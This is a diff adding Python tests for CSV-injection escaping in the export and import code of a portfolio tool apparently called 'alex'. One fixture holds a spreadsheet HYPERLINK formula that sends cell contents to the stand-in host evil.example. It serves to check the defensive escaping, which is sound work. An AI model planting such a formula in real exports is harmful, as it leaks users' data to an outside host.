@@ -16,7 +16,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from alex.domain.errors import InvalidInputError
-from alex.portfolio.formats import alex_csv, reference_csv
+from alex.portfolio.formats import alex_csv, csv_table, reference_csv
 from alex.portfolio.formats.fields import MAX_DECIMALS
 from alex.portfolio.formats.ghostfolio import dump_ghostfolio, parse_ghostfolio
 from alex.portfolio.formats.ids import transaction_ids
@@ -24,6 +24,8 @@ from alex.portfolio.formats.problems import MAX_PROBLEMS, FormatError
 from alex.portfolio.model import (
     Account,
     AccountKind,
+    Instrument,
+    InstrumentType,
     Transaction,
     TransactionType,
 )
@@ -177,6 +179,48 @@ def test_a_hundred_thousand_rows_parse() -> None:
 
 
 # --- prices and the reference CSVs -------------------------------------------------------
+
+
+# Spreadsheet formulas (OWASP, "CSV Injection") -------------------------------------------------
+def test_user_text_that_a_spreadsheet_would_run_is_guarded_and_reads_back_the_same() -> None:
+    link = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
+    notes = [link, "-5 fee refund", "+1 bonus", "@SUM(A1:A2)", "\tx", "'=already quoted", "ok"]
+    transactions = [
+        Transaction(TODAY, "brokerage", TransactionType.FEE, None, Decimal(1), Decimal(5),
+                    Decimal(0), "USD", note)
+        for note in notes
+    ]  # fmt: skip
+    text = alex_csv.dump_transactions(transactions)
+    cells = [line.rsplit(",", 1)[-1] for line in text.splitlines()[1:] if "USD" in line]
+    # Each cell as written: a leading apostrophe before a formula character, and one more
+    # before apostrophes that precede one (so that reading removes exactly what was added).
+    assert text.count("'=HYPERLINK") == 1 and "'-5 fee refund" in text and "'+1 bonus" in text
+    assert "'@SUM" in text and "''=already quoted" in text and cells[-1] == "ok"
+    # Numbers are never touched: the amounts and fees stay numbers.
+    assert all(",FEE,,1,5,0,USD," in line for line in text.splitlines()[1:8])
+    assert alex_csv.parse_transactions(text, today=TODAY) == transactions
+
+    accounts = [Account("isa", "=1+1", AccountKind.TAXABLE, "GBP")]
+    instruments = [Instrument("X", "-X fund", InstrumentType.FUND, "GBP")]
+    account_text = reference_csv.dump_accounts(accounts)
+    instrument_text = reference_csv.dump_instruments(instruments)
+    assert "'=1+1" in account_text and "'-X fund" in instrument_text
+    assert reference_csv.parse_accounts(account_text) == accounts
+    assert reference_csv.parse_instruments(instrument_text) == instruments
+
+
+def test_a_hand_written_apostrophe_is_kept_unless_it_guards_a_formula() -> None:
+    text = csv_of("2024-03-01,brokerage,BUY,VTI,10,245.10,1.00,USD,'tis mine",
+                  "2024-03-02,brokerage,BUY,VTI,10,245.10,1.00,USD,'=1+1")  # fmt: skip
+    notes = [t.note for t in alex_csv.parse_transactions(text, today=TODAY)]
+    assert notes == ["'tis mine", "=1+1"]
+
+
+@given(st.text(max_size=30))
+def test_the_guard_is_undone_exactly(text: str) -> None:
+    guarded = csv_table.guard(text)
+    assert csv_table.unguard(guarded) == text
+    assert not guarded.startswith(csv_table.FORMULA_STARTS)
 
 
 def test_prices_parse_and_a_conflicting_close_is_named() -> None:
